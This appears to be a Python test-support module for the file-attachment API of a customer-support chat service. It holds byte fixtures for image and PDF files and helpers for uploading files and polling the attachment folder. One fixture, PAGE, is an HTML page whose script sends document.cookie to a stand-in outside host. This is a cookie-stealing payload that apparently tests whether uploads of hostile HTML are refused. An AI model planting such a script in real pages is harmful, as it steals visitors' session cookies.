"""Files of every kind, and how tests upload and download them."""

import asyncio
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from handoff.client import AgentClient, CustomerClient
from handoff.protocol.customer import RequestPerson
from tests.handoff.api.support.house import House, talk

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(13) + zlib.compress(b"\0")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64) + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L" + bytes(14)
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PAGE = b"<!doctype html><script>fetch('//elsewhere.example/' + document.cookie)</script>"


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back."""

    status: int
    code: str
    body: dict[str, Any]


async def upload(
    house: House, token: str | None, data: Any, *, name: str = "photo.png", **headers: str
) -> Answer:
    """As a customer's page does it, or somebody worse."""
    shown = {} if token is None else {"Authorization": f"Bearer {token}"}
    url = house.url + "/api/attachments"
    async with house.http.post(
        url, params={"name": name}, data=data, headers={**shown, **headers}
    ) as response:
        body = await response.json()
        return Answer(response.status, body.get("error", {}).get("code", ""), body)


async def talking(house: House) -> tuple[CustomerClient, AgentClient, str]:
    """A customer with Anna, and the conversation's id."""
    customer, anna = await house.customer(), await house.agent("anna")
    await customer.tell(RequestPerson())
    return customer, anna, await talk(customer, anna)


async def asked(house: House) -> tuple[CustomerClient, AgentClient, str]:
    """The same, and Anna has asked for a file."""
    customer, anna, talk_id = await talking(house)
    await anna.request_file(talk_id, "Could you send me a photo?")
    await customer.until(lambda: customer.state is not None and customer.state.file_wanted)
    return customer, anna, talk_id


def kept(house: House) -> list[Path]:
    """The files in the folder."""
    folder = house.settings.attachments
    return sorted(folder.iterdir()) if folder.is_dir() else []


async def eventually(is_so: Callable[[], bool]) -> None:
    """Look at the folder until it is so; nobody tells when a file came or went."""
    async with asyncio.timeout(40):
        for pause_s in iter(lambda: 0.01, None):
            if is_so():
                return
            await asyncio.sleep(pause_s)
